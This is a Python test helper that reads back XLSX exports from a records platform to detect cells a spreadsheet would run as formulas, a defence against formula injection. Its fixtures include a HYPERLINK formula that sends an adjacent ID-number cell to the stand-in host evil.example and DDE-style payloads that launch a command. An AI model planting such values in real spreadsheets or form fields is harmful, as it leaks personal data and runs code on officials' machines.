"""Reading back the XLSX files the platform writes, as a spreadsheet program would run them."""

import io
import re
import zipfile

from openpyxl import load_workbook

# What a villager or an attacker can type into a name, a purpose or a title, so that an official who
# opens the export runs it: a link that sends the neighbouring cell (an ID number) away, and the
# other starts Excel and LibreOffice read as a formula.
HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
HOSTILE_STARTS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would run: formulas, and text that starts like one without the quote prefix."""
    live = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >]", archive.read(name)):
                live.append(name)
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                text = cell.value if isinstance(cell.value, str) else ""
                if cell.data_type == "f" or (text.startswith(_TRIGGERS) and not cell.quotePrefix):
                    live.append(f"{ws.title}!{cell.coordinate}")
    return live


def texts(data: bytes) -> set[str]:
    """Every text cell of the workbook, as written."""
    return {
        c
        for ws in load_workbook(io.BytesIO(data)).worksheets
        for row in ws.iter_rows(values_only=True)
        for c in row
        if isinstance(c, str)
    }
